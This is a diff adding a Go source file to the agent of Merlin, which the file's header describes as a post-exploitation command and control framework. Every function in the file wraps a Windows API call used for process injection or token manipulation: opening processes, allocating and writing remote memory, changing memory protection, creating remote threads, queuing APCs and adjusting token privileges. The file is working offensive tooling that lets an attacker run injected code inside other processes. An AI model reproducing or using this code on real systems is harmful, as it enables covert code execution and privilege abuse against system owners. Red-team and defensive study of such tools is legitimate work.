@@ -0,0 +1,155 @@
+// +build windows,!syscalls windows,!amd64
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"errors"
+	"syscall"
+	"unsafe"
+)
+
+// The functions in this file perform the process injection and token operations with the documented Windows API.
+// Agents built with the syscalls tag on amd64 use the indirect system call versions in inject_syscalls_windows.go.
+
+// openProcess opens a handle to the process with the provided ID and access rights
+func openProcess(access uint32, pid uint32) (syscall.Handle, error) {
+	OpenProcess, err := getProc(apiKernel32, apiOpenProcess)
+	if err != nil {
+		return 0, err
+	}
+	pHandle, _, errOpenProcess := OpenProcess.Call(uintptr(access), 0, uintptr(pid))
+	if pHandle == 0 {
+		return 0, errors.New("Error calling OpenProcess:\r\n" + errOpenProcess.Error())
+	}
+	return syscall.Handle(pHandle), nil
+}
+
+// allocateMemory commits memory with the provided protection in the process and returns its address
+func allocateMemory(pHandle syscall.Handle, size int, protect uint32) (uintptr, error) {
+	VirtualAllocEx, err := getProc(apiKernel32, apiVirtualAllocEx)
+	if err != nil {
+		return 0, err
+	}
+	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(pHandle), 0, uintptr(size), MEM_COMMIT|MEM_RESERVE, uintptr(protect))
+
+	if errVirtualAlloc.Error() != "The operation completed successfully." {
+		return 0, errors.New("Error calling VirtualAlloc:\r\n" + errVirtualAlloc.Error())
+	}
+
+	if addr == 0 {
+		return 0, errors.New("VirtualAllocEx failed and returned 0")
+	}
+	return addr, nil
+}
+
+// writeMemory copies the data to the provided address in the process
+func writeMemory(pHandle syscall.Handle, addr uintptr, data []byte) error {
+	WriteProcessMemory, err := getProc(apiKernel32, apiWriteProcessMemory)
+	if err != nil {
+		return err
+	}
+	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(pHandle), addr, uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)))
+
+	if errWriteProcessMemory.Error() != "The operation completed successfully." {
+		return errors.New("Error calling WriteProcessMemory:\r\n" + errWriteProcessMemory.Error())
+	}
+	return nil
+}
+
+// protectRegion changes the protection of the memory at the provided address in the process
+func protectRegion(pHandle syscall.Handle, addr uintptr, size int, protect uint32) error {
+	VirtualProtectEx, err := getProc(apiKernel32, apiVirtualProtectEx)
+	if err != nil {
+		return err
+	}
+	var oldProtect uint32
+	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(pHandle), addr, uintptr(size), uintptr(protect), uintptr(unsafe.Pointer(&oldProtect)))
+	if errVirtualProtectEx.Error() != "The operation completed successfully." {
+		return errors.New("Error calling VirtualProtectEx:\r\n" + errVirtualProtectEx.Error())
+	}
+	return nil
+}
+
+// createRemoteThread starts a thread in the process at the provided address and returns the thread's handle
+func createRemoteThread(pHandle syscall.Handle, addr uintptr) (syscall.Handle, error) {
+	CreateRemoteThreadEx, err := getProc(apiKernel32, apiCreateRemoteThreadEx)
+	if err != nil {
+		return 0, err
+	}
+	tHandle, _, errCreateRemoteThreadEx := CreateRemoteThreadEx.Call(uintptr(pHandle), 0, 0, addr, 0, 0, 0)
+	if errCreateRemoteThreadEx.Error() != "The operation completed successfully." {
+		return 0, errors.New("Error calling CreateRemoteThreadEx:\r\n" + errCreateRemoteThreadEx.Error())
+	}
+	return syscall.Handle(tHandle), nil
+}
+
+// openThread opens a handle to the thread with the provided ID and access rights
+func openThread(access uint32, tid uint32) (syscall.Handle, error) {
+	OpenThread, err := getProc(apiKernel32, apiOpenThread)
+	if err != nil {
+		return 0, err
+	}
+	tHandle, _, errOpenThread := OpenThread.Call(uintptr(access), 0, uintptr(tid))
+	if errOpenThread.Error() != "The operation completed successfully." {
+		return 0, errors.New("Error calling OpenThread:\r\n" + errOpenThread.Error())
+	}
+	return syscall.Handle(tHandle), nil
+}
+
+// queueAPC queues an asynchronous procedure call to the provided address on the thread
+func queueAPC(tHandle syscall.Handle, addr uintptr) error {
+	QueueUserAPC, err := getProc(apiKernel32, apiQueueUserAPC)
+	if err != nil {
+		return err
+	}
+	_, _, errQueueUserAPC := QueueUserAPC.Call(addr, uintptr(tHandle), 0)
+	if errQueueUserAPC.Error() != "The operation completed successfully." {
+		return errors.New("Error calling QueueUserAPC:\r\n" + errQueueUserAPC.Error())
+	}
+	return nil
+}
+
+// openProcessToken opens the access token of the process with the provided access rights
+func openProcessToken(pHandle syscall.Handle, access uint32) (syscall.Token, error) {
+	OpenProcessToken, err := getProc(apiAdvapi32, apiOpenProcessToken)
+	if err != nil {
+		return 0, err
+	}
+	var token syscall.Token
+	r, _, errOpenProcessToken := OpenProcessToken.Call(uintptr(pHandle), uintptr(access), uintptr(unsafe.Pointer(&token)))
+	if r == 0 {
+		return 0, errors.New("Error calling OpenProcessToken:\r\n" + errOpenProcessToken.Error())
+	}
+	return token, nil
+}
+
+// adjustTokenPrivileges enables or disables the privileges in the provided TOKEN_PRIVILEGES structure for the token
+func adjustTokenPrivileges(token syscall.Token, privileges unsafe.Pointer) error {
+	AdjustTokenPrivileges, err := getProc(apiAdvapi32, apiAdjustTokenPrivileges)
+	if err != nil {
+		return err
+	}
+	r, _, errAdjustTokenPrivileges := AdjustTokenPrivileges.Call(uintptr(token), 0, uintptr(privileges), 0, 0, 0)
+	if r == 0 {
+		return errAdjustTokenPrivileges
+	}
+	return nil
+}